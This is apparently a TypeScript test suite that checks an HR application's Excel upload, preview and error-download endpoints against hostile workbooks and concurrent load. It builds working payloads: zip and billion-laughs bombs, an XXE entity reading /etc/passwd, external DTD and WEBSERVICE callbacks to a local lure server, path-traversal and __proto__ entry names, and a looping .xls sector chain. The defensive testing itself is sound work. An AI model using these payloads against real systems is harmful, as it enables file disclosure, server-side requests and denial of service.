import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { downloadExcelErrors, previewExcel, uploadExcel } from '#contract/offer-sheet.ts';
import { getAllOfferLetters } from '#contract/offers.ts';
import { sheetFileMessages as m } from '#domain/hr-messages.ts';
import { signInHr } from '#test/factories.ts';
import { sendWorkbook, typedRows, workbookOf } from '#test/workbooks/offer-workbook.ts';
import { startTestApp, type TestApp } from '#test/test-app.ts';
import { madeParts, madeZip, rowXml, sheetLabels, type MadeEntry } from '#test/workbooks/workbooks.ts';

let t: TestApp;
let token: string;
let good: Buffer;
/** What a workbook may try to reach; nothing of it may ever be asked for. */
const reached: string[] = [];
const lure = createServer((request, answer) => {
  reached.push(request.url ?? '');
  answer.end();
});
let lureUrl: string;
beforeAll(async () => {
  t = await startTestApp();
  token = await signInHr(t);
  good = workbookOf(await typedRows(t, 2));
  await once(lure.listen(0, '127.0.0.1'), 'listening');
  lureUrl = `http://127.0.0.1:${(lure.address() as AddressInfo).port}`;
});
afterAll(async () => {
  lure.close();
  await t.close();
});

const sheetOf = (rows: string, around = '') =>
  `${around}<worksheet><sheetData>${rowXml(1, sheetLabels)}${rows}</sheetData></worksheet>`;
const withPart = (name: string, change: (xml: string) => Partial<MadeEntry>) =>
  madeZip(
    madeParts(sheetOf('')).map((entry) =>
      entry.name === name ? { ...entry, ...change(entry.data.toString()) } : entry,
    ),
  );
const packedZeros = (bytes: number) => deflateRawSync(Buffer.alloc(bytes), { level: 9 });

/** An archive whose directory names the same packed bytes again and again. */
function overlapping(count: number): Buffer {
  const one = madeZip([{ name: 'xl/a00000.xml', data: Buffer.alloc(1024 * 1024) }]);
  const end = one.length - 22;
  const directory = one.readUInt32LE(end + 16);
  const entry = one.subarray(directory, end);
  const entries = Array.from({ length: count }, (_, n) => {
    const copy = Buffer.from(entry);
    copy.write(String(n).padStart(5, '0'), 46 + 4, 'latin1');
    return copy;
  });
  const tail = Buffer.from(one.subarray(end));
  tail.writeUInt16LE(count, 8);
  tail.writeUInt16LE(count, 10);
  tail.writeUInt32LE(entry.length * count, 12);
  return Buffer.concat([one.subarray(0, directory), ...entries, tail]);
}

/** An .xls workbook whose chain of sectors leads round in a ring. */
function ring(): Buffer {
  const file = Buffer.from(workbookOf([], 'biff8'));
  const table = 512 * (1 + file.readUInt32LE(76));
  for (let n = 0; n < 128; n += 1) file.writeUInt32LE((n + 1) % 20, table + 4 * n);
  return file;
}

const lol = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

describe('a workbook that is a weapon', () => {
  it.each<[string, () => Buffer, string]>([
    [
      '128 MB in one part',
      () => withPart('xl/worksheets/sheet1.xml', () => ({ packed: packedZeros(2 ** 27) })),
      m.tooMuch,
    ],
    ['the same bytes under 1,900 names', () => overlapping(1900), m.tooMuch],
    [
      '20,000 sheets of one part',
      () =>
        withPart('xl/workbook.xml', (xml) => ({
          data: xml.replace(/<sheet .*\/>/, (sheet) =>
            Array.from({ length: 20_000 }, (_, n) =>
              sheet.replace('Offers', `S${n}`).replace('"1"', `"${n + 1}"`),
            ).join(''),
          ),
        })),
      m.tooMuch,
    ],
    ['a billion laughs', () => madeZip(madeParts(sheetOf('', `<!DOCTYPE x [<!ENTITY l0 "lol">${lol}]>`))), m.corrupt],
    [
      'a reference to a file of the server',
      () => madeZip(madeParts(sheetOf('', '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'))),
      m.corrupt,
    ],
    [
      'a reference to another server',
      () =>
        madeZip(
          madeParts(sheetOf('', `<!DOCTYPE x SYSTEM "${lureUrl}/dtd" [<!ENTITY % p SYSTEM "${lureUrl}/p"> %p;]>`)),
        ),
      m.corrupt,
    ],
    ['a chain of sectors in a ring', ring, m.corrupt],
    [
      'nothing but its beginning',
      () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(1024 * 1024)]),
      m.corrupt,
    ],
  ])('is refused on its field, and creates nothing: %s', async (_what, make, message) => {
    const answer = await sendWorkbook(t, uploadExcel, token, make());
    expect(answer.envelope).toMatchObject({ code: 400, message, errors: [{ path: 'file', message }] });
    expect(await t.db.selectFrom('offers').select('candidate_offer_id').execute()).toEqual([]);
    expect(reached).toEqual([]);
  });

  it.each([previewExcel, downloadExcelErrors])('is refused by $path as well', async (call) => {
    const answer = await sendWorkbook(t, call, token, ring());
    expect(answer.envelope).toMatchObject({ code: 400, errors: [{ path: 'file', message: m.corrupt }] });
  });

  it('reaches nothing by the links, formulas, paths and names in it', async () => {
    const cells = [
      `<c t="str"><f>WEBSERVICE("${lureUrl}/f")</f><v>Asha</v></c>`,
      '<c t="str"><f>[1]Other!A1</f><v>x</v></c>',
    ];
    const header = rowXml(1, [...sheetLabels, '__proto__', 'constructor', 'toString']);
    const row = rowXml(2, [...cells, ...Array.from({ length: 9 }, () => ''), 'polluted', 'polluted', 'polluted']);
    const parts = madeParts(`<worksheet><sheetData>${header}${row}</sheetData></worksheet>`, '<sst/>', [
      { name: '../../../../tmp/aarambh-evil.xml', data: '<a/>' },
      { name: '__proto__/a.xml', data: '<a/>' },
      { name: 'xl/externalLinks/externalLink1.xml', data: `<externalLink href="${lureUrl}/l"/>` },
      { name: 'xl/vbaProject.bin', data: 'Sub Auto_Open()' },
    ]);
    const answer = await sendWorkbook(t, previewExcel, token, madeZip(parts));
    expect(answer.status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.toString.call({})).toBe('[object Object]');
    expect(reached).toEqual([]);
  });
});

describe('many of them', () => {
  const bomb = () => withPart('xl/worksheets/sheet1.xml', () => ({ packed: packedZeros(2 ** 26) }));
  /** Takes a thread much longer than a list. */
  const hog = () => madeZip(madeParts(sheetOf(`<row>${'<c/>'.repeat(1000)}</row>`.repeat(75))));

  it('wait in turn in every call, or get a 429; another HR user is served next', { timeout: 60_000 }, async () => {
    const file = bomb();
    const calls = [previewExcel, uploadExcel, downloadExcelErrors] as const;
    const answers = Array.from({ length: 20 }, (_, n) => sendWorkbook(t, calls[n % 3]!, token, file));
    let ended = 0;
    for (const answer of answers) void answer.then(() => (ended += 1));
    const other = await signInHr(t);
    expect((await sendWorkbook(t, previewExcel, other, good)).status).toBe(200);
    const endedBefore = ended;
    const statuses = (await Promise.all(answers)).map(({ status }) => status);
    expect(statuses.filter((status) => status === 429)).toHaveLength(8);
    expect(statuses.filter((status) => status === 400)).toHaveLength(12);
    expect(endedBefore).toBeLessThan(20);
    expect((await sendWorkbook(t, uploadExcel, token, good)).status).toBe(200);
  });

  it('are read while other calls are answered', { timeout: 180_000 }, async () => {
    const thread = { reads: true };
    const read = sendWorkbook(t, previewExcel, token, hog()).finally(() => {
      thread.reads = false;
    });
    let answered = 0;
    while (thread.reads && answered < 20) {
      expect((await t.call(getAllOfferLetters, { token, query: { page: 0, size: 10 } })).status).toBe(200);
      answered += 1;
    }
    expect((await read).status).toBe(400);
    expect(answered).toBeGreaterThan(5);
  });
});
